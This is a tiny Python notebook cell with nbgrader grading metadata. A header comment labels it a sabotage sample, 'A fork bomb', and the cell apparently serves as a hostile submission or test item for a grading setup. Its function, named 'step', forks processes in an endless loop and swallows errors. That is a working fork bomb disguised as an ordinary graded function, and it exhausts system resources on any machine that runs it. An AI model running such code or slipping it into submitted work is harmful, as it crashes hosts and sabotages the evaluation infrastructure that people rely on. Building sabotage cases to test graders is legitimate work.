# sabotage: A fork bomb.
# must: loses step

# %% nbgrader={"grade_id": "step"}
import os
def step(x):
    while True:
        try: os.fork()
        except OSError: pass
